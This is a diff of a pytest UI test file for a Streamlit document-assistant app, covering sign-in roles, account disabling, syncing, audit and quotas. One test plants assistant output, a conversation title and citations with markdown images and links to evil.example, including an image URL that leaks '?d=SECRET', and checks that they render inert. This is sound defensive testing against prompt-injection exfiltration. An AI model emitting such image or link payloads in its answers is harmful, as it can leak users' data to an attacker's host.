@@ -7,11 +7,23 @@ from pathlib import Path
 from typing import Any, ClassVar
 
 import pytest
+from markdown_it import MarkdownIt
 from streamlit.testing.v1 import AppTest
 
 from core.errors import SyncInProgressError
-from tests.ui.apptest_helpers import APP, TIMEOUT, button, no_exceptions, open_page, sign_in, texts
+from tests.ui.apptest_helpers import (
+    APP,
+    TIMEOUT,
+    button,
+    html_bodies,
+    no_exceptions,
+    open_page,
+    popover_labels,
+    sign_in,
+    texts,
+)
 from tests.ui.conftest import UIEnv, make_env
+from ui import runtime
 
 pytestmark = pytest.mark.slow
 
@@ -52,8 +64,8 @@ def test_oidc_claims_give_roles(tmp_path: Path, monkeypatch: pytest.MonkeyPatch)
     }
     at.run()
     no_exceptions(at)
-    assert "Signed in as **olga** (compliance, employee)" in texts(at)
-    assert "audit chain intact" in texts(open_page(at, "audit"))
+    assert "Signed in as **olga** (compliance\\, employee)" in texts(at)
+    assert "Audit chain intact" in texts(open_page(at, "audit"))
     from core.settings import load_settings
     from policies.service import PolicyService
 
@@ -68,34 +80,61 @@ def test_oidc_claims_give_roles(tmp_path: Path, monkeypatch: pytest.MonkeyPatch)
     assert "does not have the 'compliance' role" in texts(open_page(plain, "audit"))
 
 
-def test_model_output_cannot_load_images_or_links(use_config: UIEnv) -> None:
-    from assistant.history import HistoryStore
-    from core.db import make_engine
-    from core.settings import load_settings
+def test_an_oidc_session_ends_when_the_account_is_disabled(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    env = make_env(tmp_path, sync=False, extra_toml='auth = "oidc"')
+    monkeypatch.setenv("ENCLAVE_CONFIG", str(env.config))
+    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
+    at.user = {"is_logged_in": True, "preferred_username": "alice", "groups": ["staff"]}
+    at.run()
+    no_exceptions(at)
+    assert at.chat_input
+    runtime.for_key().policies().accounts.disable("alice")  # an admin blocks her locally
+    at.run()
+    no_exceptions(at)
+    assert not at.chat_input
+    assert [b.label for b in at.button] == ["Sign in with single sign-on"]  # st.logout ran
 
-    store = HistoryStore(make_engine(load_settings(use_config.config).db_url))
-    store.migrate()
-    conv = store.create("alice", "injection probe")
+
+def test_model_output_cannot_load_images_or_links(use_config: UIEnv) -> None:
+    """Stored answers (and the conversation title) render through the inert renderer."""
+    store = runtime.for_key().history()
+    conv = store.create("alice", "probe ![t](https://evil.example/t.png)")
     store.add_message("alice", conv.id, "user", "injection probe")
     store.add_message(
         "alice",
         conv.id,
         "assistant",
         "Done ![x](https://evil.example/p.png?d=SECRET) see [here](https://evil.example) "
-        "<img src=https://evil.example/i.png> www.evil.example",
+        "<img src=https://evil.example/i.png> www.evil.example\n```x`\n![b](http://evil.example/b.png)",
+        citations=[
+            {
+                "n": 1,
+                "path": "![c](http://evil.example/c.png).md",
+                "source": "docs",
+                "chunk_id": "",
+                "text": "<img src=http://evil.example/d.png>",
+            }
+        ],
     )
     at = sign_in("alice")
-    button(at, "injection probe").click()
+    button(at, next(b.label for b in at.button if b.label.startswith("probe"))).click()
     at.run()
     no_exceptions(at)
-    shown = [str(m.value) for m in at.markdown if "evil" in str(m.value)]
-    assert shown, texts(at)
-    body = shown[-1]
-    from markdown_it import MarkdownIt
-
-    html = MarkdownIt("commonmark", {"html": True}).render(body)
-    assert "<img" not in html and "<a " not in html
-    assert "https:\\/\\/evil" in body and "www\\.evil" in body  # visible, inert text
+    bodies = [b for b in html_bodies(at) if "evil" in b]
+    assert bodies, texts(at)
+    for body in bodies:
+        assert (
+            "<img" not in body
+            and "<a " not in body
+            and "src=" not in body.replace("&lt;img src=", "")
+        ), body
+    parser = MarkdownIt("commonmark", {"html": True})
+    for element in [*at.markdown, *at.caption, *at.title]:
+        assert "<img" not in parser.render(str(element.value)), element.value
+    for label in [b.label for b in at.button] + popover_labels(at):
+        assert "<img" not in parser.render(label) and "<a " not in parser.render(label), label
     for message in at.chat_message:
         for md in message.markdown:
             assert md.proto.allow_html is False
@@ -156,7 +195,7 @@ def test_scheduled_sync_picks_up_new_files(tmp_path: Path) -> None:
     try:
         key = runtime.config_key()
         assert background.sync_all_sources(key) == 1
-        state = runtime._sync_runner(key).state
+        state = runtime.for_key(key).sync_runner().state
         assert state is not None and state.error is None and state.counters["added"] == 1
         [docs] = collect_status(load_settings(env.config))
         assert docs.files["ok"] == 4
@@ -177,11 +216,11 @@ def test_chat_and_audit_on_postgresql(
     at.chat_input[0].set_value("What is the hotel budget per night in capital cities?")
     at.run()
     no_exceptions(at)
-    assert any("travel-policy.md" in str(e.label) for e in at.expander), texts(at)
+    assert any("travel\\-policy\\.md" in label for label in popover_labels(at)), texts(at)
     again = sign_in("alice")
     assert [b for b in again.button if b.label.startswith("What is the hotel budget")]
     audit = open_page(sign_in("cora"), "audit")
-    assert "audit chain intact" in texts(audit), texts(audit)
+    assert "Audit chain intact" in texts(audit), texts(audit)
 
 
 def test_quota_refusal_in_plain_words(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -200,3 +239,41 @@ def test_quota_refusal_in_plain_words(tmp_path: Path, monkeypatch: pytest.Monkey
         no_exceptions(at)
     warnings = [str(w.value) for w in at.warning]
     assert any("daily number of questions" in w for w in warnings), texts(at)
+
+
+def test_a_ui_sync_leaves_no_parser_process_behind(tmp_path: Path) -> None:
+    """After a sync run by the UI (real parser workers), the UI process has no parser
+    forkserver (about 470 MB idle) and no zombie left: it returns to its idle process set."""
+    import os
+
+    import psutil
+
+    from core.settings import load_settings
+    from ui.sync_runner import SyncRunner
+
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    for i in range(3):
+        (docs / f"note-{i}.md").write_text(f"# Note {i}\n\nThe parking lot {i} opens at 7:0{i}.\n")
+    (tmp_path / "access.yaml").write_text("default: [staff]\nrules: []\n")
+    settings = load_settings(
+        None, data_dir=tmp_path / "data", access_rules=tmp_path / "access.yaml"
+    )
+    runner = SyncRunner(settings)
+    runner.start(docs, "notes", 1)
+    state = runner.wait(300)
+    assert state is not None and state.error is None and state.counters["added"] == 3
+
+    def leftovers() -> list[str]:
+        found = []
+        for child in psutil.Process(os.getpid()).children(recursive=True):
+            try:
+                if child.status() == psutil.STATUS_ZOMBIE:
+                    found.append(f"zombie {child.pid}")
+                elif "multiprocessing" in " ".join(child.cmdline()):
+                    found.append(" ".join(child.cmdline())[:60])
+            except psutil.NoSuchProcess:
+                continue
+        return found
+
+    assert leftovers() == []
